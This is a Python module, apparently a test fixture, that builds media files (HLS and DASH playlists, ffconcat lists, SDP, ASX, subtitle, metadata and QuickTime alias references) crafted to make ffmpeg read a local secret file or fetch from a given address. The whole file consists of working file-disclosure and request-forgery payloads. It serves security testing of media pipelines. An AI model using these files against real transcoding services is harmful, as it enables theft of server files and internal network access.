"""Files made to have ffmpeg open something else: a file of somebody's, or an address."""

from pathlib import Path


def references(secret: Path, beside: str, address: str) -> dict[str, bytes]:
    """By name, what is in each: texts that some program follows to another file or to an address.

    Args:
        secret: A file elsewhere.
        beside: The name of a file in the same folder.
        address: An http URL.
    """
    host, port = address.removeprefix("http://").split(":")
    targets = {"file": str(secret), "url": secret.as_uri(), "near": beside, "web": f"{address}/secret.ts"}
    files = {
        f"hls {kind}.mp4": "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n"
        f"{target}\n#EXT-X-ENDLIST\n"
        for kind, target in targets.items()
    }
    files |= {
        "hls as sound.m4a": files["hls file.mp4"].replace("10", "11"),
        "hls master.mov": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{address}/list.m3u8\n",
        "concat near.mp4": f"ffconcat version 1.0\nfile {beside}\n",
        "concat.mp4": f"ffconcat version 1.0\nfile '{secret}'\n",
        "concat web.mkv": f"ffconcat version 1.0\nfile '{address}/secret.ts'\n",
        "concat options.webm": f"ffconcat version 1.0\nfile '{secret}'\noption safe 0\n",
        "dash.mp4": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1"'
        f' bandwidth="1"><BaseURL>{address}/secret.mp4</BaseURL></Representation></AdaptationSet></Period>'
        "</MPD>",
        "sdp.mp4": f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=audio {port} RTP/AVP 0\n",
        "windows.wmv": f"[Reference]\nRef1={address}/secret.asf\n",
        "windows.wma": f'<asx version="3.0"><entry><ref href="{address}/secret.asf"/></entry></asx>',
        "real.flv": f"{address.replace('http', 'rtsp')}/secret.rm\n",
        "subtitles.mkv": "[Script Info]\nScriptType: v4.00+\n[Events]\n"
        f"Dialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,{{\\fn{secret}}}words\n",
        "settings.mp4": f";FFMETADATA1\ntitle={secret}\n",
        "graph.avi": f"movie='{secret}'",
        "page.mp4": f"<html><script src='{address}/x.js'></script></html>",
    }
    return {name: text.encode() for name, text in files.items()}


def borrowing(movie: bytes, lender: str) -> bytes:
    """A QuickTime movie, given with its index last, whose pictures and sound now lie in the file `lender`."""
    entry = b"\x00" * 10 + bytes(28) + bytes(12) + _padded(lender, 63) + bytes(16)
    entry += b"\x00\x01\x00\x01" + bytes(16)  # up one level from the alias, down one to the target
    path = f":{lender}".encode()
    path += b"\x00" * (len(path) % 2)
    entry += b"\x00\x02" + len(path).to_bytes(2, "big") + path + b"\xff\xff\x00\x00"
    alias = (12 + len(entry)).to_bytes(4, "big") + b"alis" + bytes(4) + entry
    references = (16 + len(alias)).to_bytes(4, "big") + b"dref" + bytes(7) + b"\x01" + alias
    return _rebuilt(movie, references)


def _padded(text: str, size: int) -> bytes:
    return bytes([len(text)]) + text.encode().ljust(size, b"\x00")


_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def _rebuilt(boxes: bytes, references: bytes) -> bytes:
    """The boxes with every list of data references replaced."""
    made = b""
    while boxes:
        size, kind = int.from_bytes(boxes[:4], "big"), boxes[4:8]
        box, boxes = boxes[:size], boxes[size:]
        if kind in _CONTAINERS:
            inside = _rebuilt(box[8:], references)
            box = (8 + len(inside)).to_bytes(4, "big") + kind + inside
        made += references if kind == b"dref" else box
    return made
